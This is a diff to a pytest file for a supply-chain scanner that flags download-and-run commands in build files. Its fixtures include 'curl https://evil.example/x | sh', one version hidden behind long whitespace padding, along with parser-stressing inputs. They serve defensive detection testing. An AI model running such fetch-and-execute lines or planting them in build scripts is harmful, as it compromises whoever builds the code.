@@ -8,6 +8,7 @@ from pathlib import Path
 
 import pytest
 
+from mlsupply.evidence.allowance import Allowance
 from mlsupply.evidence.build_steps import cmake, configure, make, meson
 from mlsupply.evidence.builds import at_its_moment, build_facts, build_system
 from mlsupply.evidence.contents import judged
@@ -133,8 +134,6 @@ def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatc
     monkeypatch.setattr("mlsupply.evidence.build_steps.MOST_CALLS", 3)
     assert "from line 4 on" in build_facts(MESON, b"run_command('curl')\n" * 5).cut
     assert "from line 4 on" in build_facts(MAKE, b"V := $(shell curl x)\n" * 5).cut
-    monkeypatch.setattr("mlsupply.evidence.builds._LOOKED", 200)
-    assert "from line 3 on" in build_facts(CONFIGURE, b"curl x\n" * 5).cut
 
 
 @pytest.mark.parametrize(
@@ -148,6 +147,9 @@ def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatc
         "execute_process(" + "[=[" * 20_000 + "curl ]]",
         'execute_process(COMMAND "curl' * 4_000,
         "set(a ${a}${a})\n" * 500 + "execute_process(COMMAND curl ${a})",
+        ("curl -o a" + " " * 3_900 + "\n") * 300,
+        ("curl -o a" + "\\\n" * 1_900 + "\n") * 50,
+        ("curl a" + "&" * 3_900 + "\n") * 20,
         "X = $(X)$(X) curl\n" * 4_000 + "Y := $(shell $(X)",
         "$(shell " * 1_000 + "curl",
         "$(shell \\\n" * 100_000 + "curl",
@@ -158,6 +160,20 @@ def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatc
 def test_a_file_made_to_take_long_ends(text: str) -> None:
     for path in (MESON, CMAKE, MAKE, CONFIGURE):
         build_facts(path, text.encode())
+
+
+def test_a_pipe_that_starts_a_line_belongs_to_the_line_before() -> None:
+    padded = "run_command('sh', '-c', '''curl https://evil.example/x" + " " * 900 + "\n  | sh''')"
+    assert told(MESON, padded) == [("build-command", 1)]
+
+
+def test_the_build_files_of_an_archive_have_one_allowance() -> None:
+    shared = Allowance(350)
+    hostile = b"curl https://evil.example/x | sh\n"
+    assert build_facts(CONFIGURE, b"curl x\n" + hostile, shared).facts
+    assert not shared.refused
+    assert not build_facts(CONFIGURE, hostile, shared).facts
+    assert shared.refused
 
 
 def test_a_line_of_lines_without_end_is_taken_in_parts() -> None:
